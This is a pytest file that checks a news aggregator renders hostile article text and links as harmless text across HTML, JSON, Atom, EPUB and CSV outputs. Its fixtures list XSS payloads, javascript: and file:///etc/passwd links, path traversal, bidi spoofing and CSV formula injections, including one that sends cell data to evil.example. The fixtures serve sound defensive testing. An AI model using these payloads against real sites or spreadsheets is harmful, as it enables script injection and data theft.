"""What strangers write, through every format: it comes back as text, and nothing acts or leads elsewhere."""

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
import zipfile
from dataclasses import replace
from pathlib import Path
from typing import Final

import feedparser
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from aggregator.publish.files import write_files
from aggregator.publish.formats import RENDERERS, VERIFIERS
from aggregator.publish.formats.cleaning import NAMELESS, cleaned
from aggregator.publish.formats.html import read_page
from aggregator.publish.issue import Issue, Section
from aggregator.publish.text import safe_url, scrub
from tests.test_publish_formats import article, issue, links_of, rendered, story

TEXTS: Final = {
    "script": "<script>alert(1)</script>",
    "event handler": "\"><img src=x onerror=alert(1)> ' onmouseover='x",
    "end of everything": "</title></style></svg></textarea></script>--><!-- ]]> <![CDATA[",
    "entities": "&lt;b&gt; &amp;amp; &#60;script&#62; &notanentity;",
    "template": "{{ 7 * 7 }} {% raw %} {# note #} {{< figure >}} ${x}",
    "front matter": "\n---\ntitle: other\n---\n",
    "controls": "a\x00b\x0bc\x1b[31md\x85e\x9bf\ufffe\uffff",
    "lone surrogate": "half \ud83d an emoji",
    "bidi override": "safe \u202egnp.exe\u202c \u2066x\u2069 \U000e0041",
    "right to left": 'עבורת הים נעצרה "בנמל" 12',
    "Arabic and Latin": "العبارة <b>Skagen</b> تتوقف",
    "Chinese": "渡轮在斯卡恩附近搁浅，二百一十四人获救",
    "combining marks": "Z" + "\u0301" * 80,
    "emoji family": "👩‍👩‍👧‍👦 on board",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "formula in disguise": "\t\r\n ＝1+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+9)*cmd",
    "comma, quotes and lines": 'a,"b",\r\n"c;d',
    "path": "../../../etc/passwd\\..\\x",
    "ten thousand characters": "long " * 2000,
    "one word of ten thousand": "w" * 10_000,
    "nothing": "",
    "nothing to be seen": "\u200b\u202e\x00 ",
}
LINKS: Final = {
    "script": "javascript:alert(1)",
    "script in disguise": " java\nscript:alert(1)",
    "data": "data:text/html,<script>alert(1)</script>",
    "vbscript": "vbscript:msgbox(1)",
    "file": "file:///etc/passwd",
    "protocol-relative": "//evil.example/x",
    "user name": "https://bank.example@evil.example/",
    "backslash": "https://good.example\\@evil.example/",
    "breaks out": 'https://a.example/"><script>alert(1)</script>',
    "quotes and brackets": "https://a.example/a'b\"c(d)[e]{{f}}<g>?h=1&i=2#j",
    "controls": "https://a.example/\x00\x1b\u202e",
    "Cyrillic host": "https://аррӏе.example/новости",
    "nothing": "",
}
CSV_STARTS: Final = tuple("=+-@＝＋－＠\t\r")


def hostile_issue(text: str, link: str | None) -> Issue:
    """An issue with a stranger's text in every place that a stranger can reach."""
    lead = article(text, text, link, summary=text + " and more words than the headline has")
    second = article(f"Second {text}", "Harbour Post", "https://harbour.example/1")
    big = story(1, lead, second, series=text, serial=text, previous_issue=text, next_issue=text)
    big = replace(big, neighbours=f"Series: previous {text}", facts=f"New · {text}")
    big = replace(big, fact=text, fact_source=lead, also_by=f"also {text}", tags=(text,))
    small = story(2, article(text, f"{text} 2", link))
    of = issue(
        Section(f"Sea {text}", (big,)), also=(small,), title=f"World: {text}", also_title=text, dek=text
    )
    return replace(of, day=replace(of.day, title=text, source_urls=(link or "", "https://a.example/feed")))


def shown(text: str) -> str:
    return scrub(text) or NAMELESS


HOSTILE = {f"text: {name}": (text, "https://a.example/1") for name, text in TEXTS.items()} | {
    f"link: {name}": ("Ferry runs aground", link) for name, link in LINKS.items()
}
EVERY_CASE = pytest.mark.parametrize(("text", "link"), HOSTILE.values(), ids=HOSTILE.keys())


@EVERY_CASE
def test_page_shows_it_and_does_nothing(text: str, link: str) -> None:
    of = hostile_issue(text, link)
    [file] = rendered(of, "html")
    page = read_page(file)

    assert shown(text) in page.text_of["story-1-title"]
    assert shown(text) in page.text_of["story-2"]
    web = {address for address in page.addresses if not address.startswith("#")}
    assert web == links_of(cleaned(of))
    assert page.tags == read_page(rendered(hostile_issue("Plain", link), "html")[0]).tags


@EVERY_CASE
def test_documents_give_it_back(text: str, link: str) -> None:
    of = hostile_issue(text, link)
    document = json.loads(rendered(of, "json")[0].body)
    feed = json.loads(rendered(of, "jsonfeed")[0].body)

    lead = document["sections"][0]["stories"][0]["reports"][0]
    assert (lead["outlet"], lead["articles"][0]["headline"]) == (shown(text), shown(text))
    assert lead["articles"][0]["link"] == safe_url(link)
    assert feed["items"][0]["title"] == shown(text)
    assert feed["items"][0].get("url") == safe_url(link)


@EVERY_CASE
def test_feed_reader_gets_it_and_nothing_that_acts(text: str, link: str) -> None:
    of = hostile_issue(text, link)
    [file] = rendered(of, "atom")
    feed = feedparser.parse(io.BytesIO(file.body), sanitize_html=False, resolve_relative_uris=False)

    assert not feed.bozo
    assert ET.fromstring(file.text).findtext("*/{http://www.w3.org/2005/Atom}title") == shown(text)
    hrefs = [[one.href for one in entry.get("links", [])] for entry in feed.entries]
    assert hrefs == [[address] if (address := safe_url(link)) else []] * 2
    for entry in feed.entries:
        content = entry.content[0].value
        assert set(re.findall(r"<(\w+)", content)) <= {"p", "ul", "li", "b", "a"}
        assert not re.search(r"<[^>]*\son\w+=", content)


@EVERY_CASE
def test_book_is_whole(text: str, link: str) -> None:
    of = hostile_issue(text, link)
    [file] = rendered(of, "epub")
    book = zipfile.ZipFile(io.BytesIO(file.body))

    assert all(re.fullmatch(r"(META-INF/|book/)?[a-z0-9-]+(\.[a-z]+)?", name) for name in book.namelist())
    chapter = ET.fromstring(book.read("book/section-1.xhtml"))
    assert shown(text) in "".join(chapter.itertext())
    found = {element.attrib["href"] for element in chapter.iter("{http://www.w3.org/1999/xhtml}a")}
    assert found <= links_of(cleaned(of))
    assert not list(chapter.iter("{http://www.w3.org/1999/xhtml}script"))


@EVERY_CASE
def test_no_cell_of_a_table_is_a_formula(text: str, link: str) -> None:
    of = hostile_issue(text, link)
    files = rendered(of, "csv")
    for file in files:
        for row in csv.reader(io.StringIO(file.text.removeprefix("\ufeff"), newline="")):
            assert not any(cell.startswith(CSV_STARTS) for cell in row)
    rows = list(csv.DictReader(io.StringIO(files[1].text.removeprefix("\ufeff"), newline="")))
    assert rows[0]["headline"].removeprefix("'") == shown(text).removeprefix("'")


@EVERY_CASE
def test_every_file_lands_in_its_folder(text: str, link: str, tmp_path: Path) -> None:
    of = hostile_issue(text, link)
    files = [file for format in RENDERERS for file in rendered(of, format)]
    written = write_files(tmp_path, files)

    assert {file.path.parent for file in written} == {tmp_path}
    assert {file.path.name[:16] for file in written} == {"2026-01-07-world"}


anything = st.text(st.characters(codec=None), max_size=40)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=anything, link=st.one_of(st.none(), anything, anything.map("https://a.example/{}".format)))
def test_whatever_is_written_every_format_reads_it_back(text: str, link: str | None) -> None:
    of = hostile_issue(text, link)
    for format, renderer in RENDERERS.items():
        VERIFIERS[format](of, renderer(of))


@settings(max_examples=25, deadline=None)
@given(text=anything, link=anything)
def test_cleaning_is_a_fixed_point(text: str, link: str) -> None:
    once = cleaned(hostile_issue(text, link))
    assert cleaned(once) == once
